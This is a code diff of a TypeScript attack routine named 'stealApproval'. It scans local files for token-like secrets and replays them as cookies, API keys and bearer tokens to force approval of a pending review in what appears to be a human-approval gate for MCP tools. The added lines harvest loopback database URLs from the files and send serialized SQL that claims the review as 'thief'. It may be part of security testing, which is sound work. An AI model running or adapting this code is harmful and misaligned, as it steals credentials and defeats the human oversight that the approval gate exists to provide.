@@ -7,6 +7,7 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import { request } from 'node:http';
 import { join } from 'node:path';
+import { serialize } from 'node:v8';
 
 /** Tries everything once. */
 export async function stealApproval(
@@ -24,6 +25,7 @@ export async function stealApproval(
     ...folders.flatMap(filesIn).map(read),
   ];
   const found = texts.join('\n').match(/(?<![\w-])[\w-]{43}(?![\w-])/gu) ?? [];
+  const doors = [...new Set(texts.join('\n').match(/(?<="door":\{"url":")http:\/\/127[^"]+/gu) ?? [])];
   const secrets = [...new Set(['guess', ...found])].slice(0, 50);
   const { host, port } = new URL(page);
   const path = `/api/waiting/${id}`;
@@ -49,23 +51,22 @@ export async function stealApproval(
           headers: { ...json, cookie: `mcp_observatory_${port}=${secret}`, 'x-observatory-key': key },
         },
       ]),
-      [
-        'database by the door of gates',
-        {
-          path: '/api/gate',
-          headers: { ...json, authorization: `Bearer ${secret}` },
-          body: JSON.stringify({
-            text: `SELECT mcp_reviews_claim('thief', 1000, NULL, $1::text::uuid)`,
-            values: [id],
-          }),
-        },
-      ],
+      ...doors.map((door): [string, Parameters<typeof ask>[1]] => [
+        'database by its door',
+        { door, path: '/', headers: { authorization: `Bearer ${secret}` }, body: claiming(id) },
+      ]),
       ['database by /mcp', { path: '/mcp', headers: mcpHeaders(secret), body: decidingQuery(id) }],
     ]),
   ];
   const tried: [string, number][] = [];
   for (const [name, way] of ways) tried.push([name, await ask(page, way)]);
   return { secrets: found.length, tried };
+}
+
+/** What the door of a store is asked. */
+function claiming(id: string): Buffer {
+  const text = `SELECT mcp_reviews_claim('thief', 1000, NULL, $1::text::uuid)`;
+  return serialize({ statements: [{ text, values: [id] }], isForeign: false, timeoutMs: 1000 });
 }
 
 function mcpHeaders(secret: string): Record<string, string> {
@@ -83,13 +84,20 @@ function decidingQuery(id: string): string {
 function ask(
   page: string,
   {
+    door = page,
     path,
     method = 'POST',
     headers,
     body = '{"decision":"approve"}',
-  }: { path: string; method?: string; headers: Record<string, string>; body?: string },
+  }: {
+    door?: string;
+    path: string;
+    method?: string;
+    headers: Record<string, string>;
+    body?: string | Buffer;
+  },
 ): Promise<number> {
-  const { hostname, port } = new URL(page);
+  const { hostname, port } = new URL(door);
   return new Promise((resolve) => {
     const sent = request({ hostname, port, path, method, headers, agent: false }, (response) => {
       response.resume().on('end', () => resolve(response.statusCode ?? 0));
